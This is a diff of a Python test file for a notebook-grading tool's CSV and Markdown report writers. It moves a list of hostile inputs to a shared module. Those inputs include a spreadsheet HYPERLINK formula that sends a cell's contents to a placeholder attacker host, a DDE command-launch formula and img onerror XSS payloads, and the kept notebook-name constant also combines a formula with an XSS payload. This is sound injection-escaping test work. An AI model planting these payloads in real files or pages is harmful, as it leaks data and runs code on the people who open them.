@@ -14,49 +14,14 @@ import pytest
 
 from checks.reports import FIELDS, TOTALS, TOTALS_NUMERIC, md_text, write_reports
 from checks.scores import FORMULA_STARTS, csv_text, plain_cell, read_grades, safe_cell
+from tests.rows import HOSTILE, row
 
 NB3 = "03-makemore-backprop.ipynb"
-# what a learner can choose: a folder name, an LMS display name, a notebook's file name
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "-2+3",
-    "\t=1+1",
-    "\r=1+1",
-    "'=already quoted",
-    "<img src=x onerror=alert(1)>",
-    "ann | 35/35 | | x",
-    "**bold** [link](http://evil.example) `code` &lt;",
-]
 ODD_NOTEBOOK = "=evil() | <img src=y onerror=alert(2)>.ipynb"  # a notebook of no exercise
 REVIEW_WHY = (
     "the cell reads `X.grad` where the handed-out cell does not: not credited until an "
     "instructor has looked at it"
 )
-
-
-def row(
-    sub: str,
-    nb: str,
-    check: str,
-    passed: bool,
-    mistake: str = "",
-    reason: str = "",
-    note: str = "",
-    feedback: str | None = None,
-) -> dict:
-    """A row of grades.csv as the grader writes it."""
-    return {
-        "submission": sub,
-        "notebook": nb,
-        "check": check,
-        "passed": "true" if passed else "false",
-        "mistake": mistake,
-        "reason": reason,
-        "note": note,
-        "feedback": reason if feedback is None else feedback,
-    }
 
 
 def hostile_class() -> list[dict]:
